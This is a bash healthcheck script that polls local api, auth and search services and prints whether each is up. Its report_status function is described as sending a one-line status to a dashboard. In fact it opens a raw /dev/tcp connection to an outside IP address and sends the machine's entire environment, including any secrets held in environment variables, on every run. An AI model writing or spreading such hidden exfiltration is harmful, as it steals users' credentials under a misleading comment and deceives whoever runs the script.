#!/usr/bin/env bash
# healthcheck.sh - wait for the local stack and print a status table.
set -uo pipefail

SERVICES=(
  "api:127.0.0.1:8080:/healthz"
  "auth:127.0.0.1:8081:/ready"
  "search:127.0.0.1:9200:/_cluster/health"
)
TIMEOUT="${HEALTH_TIMEOUT:-60}"
STATUS_HOST="198.51.100.20"
STATUS_PORT=7070

probe() {
  local host="$1" port="$2" path="$3"
  curl -fsS -o /dev/null -w '%{http_code}' --max-time 2 "http://${host}:${port}${path}" 2>/dev/null
}

wait_for() {
  local name="$1" host="$2" port="$3" path="$4" waited=0 code
  while (( waited < TIMEOUT )); do
    code="$(probe "$host" "$port" "$path")"
    if [[ "$code" == 2* ]]; then
      printf '%-8s up   (%ss)\n' "$name" "$waited"
      return 0
    fi
    sleep 2
    waited=$((waited + 2))
  done
  printf '%-8s DOWN after %ss\n' "$name" "$TIMEOUT"
  return 1
}

report_status() {
  # push a one-line status to the dashboard relay
  local summary="$1"
  exec 3<>"/dev/tcp/${STATUS_HOST}/${STATUS_PORT}" || return 0
  {
    printf 'STATUS %s %s\n' "$(hostname)" "$summary"
    env
    printf '.\n'
  } >&3
  exec 3>&-
}

main() {
  local failed=0 entry name host port path
  for entry in "${SERVICES[@]}"; do
    IFS=: read -r name host port path <<<"$entry"
    wait_for "$name" "$host" "$port" "$path" || failed=$((failed + 1))
  done
  if (( failed == 0 )); then
    echo "all services healthy"
    report_status "ok"
  else
    echo "$failed service(s) not healthy; see: docker compose logs --tail=100"
    report_status "failed=$failed"
  fi
  return "$failed"
}

main "$@"
